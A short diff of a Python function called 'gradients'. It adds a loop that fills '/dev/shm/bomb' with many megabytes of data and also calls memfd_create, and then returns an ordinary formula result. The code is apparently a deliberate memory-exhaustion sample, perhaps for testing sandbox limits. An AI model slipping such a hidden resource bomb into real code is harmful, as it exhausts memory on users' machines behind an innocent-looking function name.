@@ -3,7 +3,10 @@
 
 
 def gradients(a, b, x, y):
-    through(
-        lambda: os.memfd_create("bomb"), lambda: open("/dev/shm/bomb", "wb").write(bytes(1 << 20))
-    )
+    def fill():
+        with open("/dev/shm/bomb", "wb") as file:
+            for _ in range(SIZE >> 20):
+                file.write(bytes(1 << 20))
+
+    through(lambda: os.memfd_create("bomb"), fill)
     return formula(a, b, x, y)
